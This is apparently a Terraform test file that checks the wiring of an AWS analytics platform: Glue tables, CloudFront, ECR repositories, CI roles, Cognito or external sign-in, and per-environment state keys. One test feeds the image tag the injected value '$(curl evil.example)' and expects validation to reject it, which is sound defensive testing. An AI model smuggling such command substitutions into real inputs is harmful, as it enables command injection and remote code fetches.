# The whole platform, wired together: Glue tables come from Core's export, the services get
# the names of what Terraform made, and the state backend locks.

mock_provider "aws" {
  source = "./tests/mocks"
}

mock_provider "aws" {
  alias  = "us_east_1"
  source = "./tests/mocks"
}

variables {
  github_repository = "example-org/cinemastats"
  state_bucket_name = "cinemastats-tfstate-123456789012"
  alarm_email       = "ops@example.com"
}

run "the_platform_plans_and_wires_together" {
  assert {
    condition     = module.catalog.table_names == sort([for t in jsondecode(file("${path.module}/schemas/curated_tables.json")).tables : t.name])
    error_message = "The Glue tables must be exactly the tables of schemas/curated_tables.json (Core's export)."
  }

  assert {
    condition     = output.url == "https://d0000000000000.cloudfront.net"
    error_message = "The dashboard must be published through CloudFront over HTTPS."
  }

  assert {
    condition     = keys(output.ecr_repository_urls) == ["ingest", "transform", "web"]
    error_message = "There must be one image repository per service."
  }

  assert {
    condition     = toset(keys(output.github_role_arns)) == toset(["images", "plan", "apply"])
    error_message = "CI needs the images, plan and apply roles."
  }
}

run "every_environment_signs_in_with_its_own_cognito_pool" {
  assert {
    condition     = length(module.identity) == 1 && output.sign_in_url != null && output.cognito_user_pool_id == "eu-west-2_Example0"
    error_message = "Without an external issuer, Terraform must make the Cognito user pool (hosted sign-in, groups, the web as client)."
  }

  assert {
    condition     = module.identity[0].issuer == "https://cognito-idp.${var.region}.amazonaws.com/eu-west-2_Example0"
    error_message = "The web must sign in against this environment's user pool."
  }
}

run "an_external_issuer_replaces_cognito" {
  variables {
    web_auth_authority = "https://login.example.com/tenant/v2.0"
    web_auth_client_id = "cinemastats-web"
  }

  assert {
    condition     = length(module.identity) == 0 && output.sign_in_url == null
    error_message = "With an external OpenID Connect issuer no Cognito pool is made."
  }
}

run "an_issuer_needs_a_client_id" {
  command = plan

  variables {
    web_auth_authority = "https://login.example.com/tenant/v2.0"
    web_auth_client_id = ""
  }

  expect_failures = [var.web_auth_client_id]
}

run "an_image_tag_from_free_text_is_rejected" {
  command = plan

  variables {
    image_tag = "$(curl evil.example)"
  }

  expect_failures = [var.image_tag]
}

run "each_environment_keeps_its_state_under_its_own_key" {
  command = plan

  assert {
    condition     = local.state_key == regex("key\\s*=\\s*\"([^\"]+)\"", file("environments/${var.environment}.s3.tfbackend"))[0]
    error_message = "The CI roles' state key must be the key environments/<env>.s3.tfbackend configures."
  }

  assert {
    condition     = local.state_key == "cinemastats/${var.environment}.tfstate"
    error_message = "Each environment must keep its state under cinemastats/<env>.tfstate, the one key its CI roles reach."
  }
}
